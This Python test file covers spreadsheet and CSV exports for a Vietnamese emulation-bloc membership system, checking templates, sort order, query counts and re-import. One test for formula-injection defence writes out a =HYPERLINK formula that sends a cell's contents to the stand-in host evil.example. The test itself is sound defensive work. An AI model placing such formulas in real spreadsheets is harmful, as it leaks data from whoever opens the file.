"""Exports: import templates and a year's structure that re-imports unchanged."""

import io

import pytest
from openpyxl import load_workbook

from blocs import overview
from blocs.exports import structure_rows, template_workbook, year_structure
from blocs.imports import AGENCY_COLUMNS, KINDS, MEMBERSHIP_COLUMNS, preview_import
from blocs.models import Agency, Membership
from blocs.overview import OverviewColumn
from emulation.excel import read_sheet
from portal.bench.measure import capture_queries
from tests.factories import AgencyFactory, BlocFactory, MembershipFactory, bloc_year_with_members
from tests.queries import assert_same_queries


def sheets_of(data):
    return load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("kind", ["agencies", "memberships"])
def test_each_template_has_the_import_columns_an_example_and_a_guide(db, kind):
    name, content_type, data = template_workbook(kind)
    assert name == {"agencies": "mau-nhap-danh-muc-don-vi.xlsx"}.get(
        kind, "mau-nhap-thanh-vien-khoi.xlsx"
    )
    assert content_type.endswith("spreadsheetml.sheet")
    workbook = sheets_of(data)
    data_sheet, guide = workbook.worksheets
    assert [cell.value for cell in data_sheet[1]] == [c.header for c in KINDS[kind].columns]
    assert data_sheet["A1"].font.bold
    assert data_sheet.freeze_panes == "A2"
    assert data_sheet.max_row == 2
    assert guide.title == "Hướng dẫn"
    guide_text = " ".join(str(cell.value) for row in guide.iter_rows() for cell in row)
    assert "Xóa dòng ví dụ trước khi nhập" in guide_text
    rows = read_sheet(data, KINDS[kind].columns)
    assert len(rows) == 1 and not rows[0].errors


def test_the_agency_template_lists_every_kind(db):
    guide = sheets_of(template_workbook("agencies")[2])["Hướng dẫn"]
    text = " ".join(str(cell.value) for row in guide.iter_rows() for cell in row)
    for _code, label in Agency.Kind.choices:
        assert str(label) in text


def test_the_templates_example_rows_preview_cleanly(db):
    for kind in KINDS:
        plan = preview_import(kind, template_workbook(kind)[2])
        assert not plan.has_errors, [row.errors for row in plan.rows]


def test_the_year_structure_lists_blocs_with_head_and_deputy_first(bloc_year, other_bloc_year):
    rows = structure_rows(2024)
    # Vietnamese order: "Khối thi đua số 6" < "Khối thi đua Văn hóa - Xã hội".
    assert rows[0][1:4] == ["Khối thi đua số 6", "KTĐ6", "Tỉnh đoàn"]
    assert rows[1] == [
        2024,
        "Khối thi đua Văn hóa - Xã hội",
        "KTĐVHXH",
        "Sở Y tế",
        bloc_year.memberships.get(agency=bloc_year.head).signatory_name,
        "Giám đốc",
        "Trưởng khối",
    ]
    assert rows[2][3:] == [
        "Sở Giáo dục và Đào tạo",
        bloc_year.memberships.get(agency=bloc_year.deputy).signatory_name,
        "Giám đốc",
        "Phó khối",
    ]
    # Then the plain members in Vietnamese order: "Bảo hiểm" < "Đài" < "Sở Văn hóa".
    assert [row[3:] for row in rows[3:]] == [
        [name, bloc_year.memberships.get(agency__name=name).signatory_name, "Giám đốc", ""]
        for name in (
            "Bảo hiểm xã hội tỉnh",
            "Đài Phát thanh và Truyền hình tỉnh",
            "Sở Văn hóa, Thể thao và Du lịch",
        )
    ]


def covenant_column(bloc_years):
    """A stand-in for a column another feature registers on the year overview."""
    return OverviewColumn(
        key="covenant",
        title="Ký giao ước",
        cells={by.pk: "3/5" for by in bloc_years},
        total="6/10",
    )


def test_the_year_export_has_the_import_sheet_then_the_overview(
    bloc_year, other_bloc_year, monkeypatch
):
    with overview.OVERVIEW_COLUMNS.only(covenant_column):
        name, content_type, data = year_structure(2024)
    assert name == "co-cau-khoi-thi-dua-2024.xlsx"
    members, summary = sheets_of(data).worksheets
    assert members.title == "Thành viên khối"
    assert [cell.value for cell in members[1]] == [c.header for c in MEMBERSHIP_COLUMNS]
    assert members.max_row == 7
    assert summary.title == "Tổng quan 2024"
    assert [cell.value for cell in summary[1]][-1] == "Ký giao ước"
    assert [cell.value for cell in summary[2]] == [
        "Khối thi đua số 6",
        "KTĐ6",
        "Tỉnh đoàn",
        None,
        1,
        None,
        "3/5",
    ]
    assert [cell.value for cell in summary[3]][:5] == [
        "Khối thi đua Văn hóa - Xã hội",
        "KTĐVHXH",
        "Sở Y tế",
        "Sở Giáo dục và Đào tạo",
        5,
    ]
    assert summary[3][5].value == "Trần Văn Liên, Phó Chủ tịch UBND tỉnh"
    assert [cell.value for cell in summary[4]] == ["Tổng cộng", None, None, None, 6, None, "6/10"]


def test_the_csv_export_is_the_membership_sheet_with_a_bom(bloc_year):
    name, content_type, data = year_structure(2024, "csv")
    assert name == "co-cau-khoi-thi-dua-2024.csv"
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == "Năm,Khối thi đua,Mã khối,Đơn vị,Người ký,Chức vụ người ký,Vai trò"
    assert len(lines) == 6


def test_a_formula_like_name_is_exported_as_text_and_reimports_unchanged(db, province_staff):
    bloc_year = bloc_year_with_members(2, year=2024)
    hostile = AgencyFactory(name='=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")')
    MembershipFactory(bloc_year=bloc_year, agency=hostile, signatory_name="+84 912 345 678")
    data = year_structure(2024)[2]
    sheet = sheets_of(data)["Thành viên khối"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    exported = [cell.value for cell in cells if "HYPERLINK" in str(cell.value)]
    assert exported == ['\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")']
    assert "'+84 912 345 678" in [cell.value for cell in cells]
    plan = preview_import("memberships", data)
    assert {row.status for row in plan.rows} == {"unchanged"}, [r.errors for r in plan.rows]


def test_an_empty_year_exports_headers_only(db):
    members, summary = sheets_of(year_structure(2030)[2]).worksheets
    assert members.max_row == 1
    assert [cell.value for cell in summary[2]][:5] == ["Tổng cộng", None, None, None, 0]


def test_the_year_export_query_count_does_not_grow_with_blocs(db):
    bloc_year_with_members(3, year=2024, bloc=BlocFactory())
    with overview.OVERVIEW_COLUMNS.only():
        small = capture_queries(year_structure, 2024)
        for _ in range(10):
            bloc_year_with_members(4, year=2024)
        assert Membership.objects.count() == 43
        assert_same_queries(capture_queries(year_structure, 2024), small, exactly=2)


def test_agency_export_headers_match_the_agency_import(db):
    assert [c.header for c in AGENCY_COLUMNS] == [
        "Tên cơ quan, đơn vị",
        "Tên viết tắt",
        "Loại hình",
        "Ghi chú",
    ]
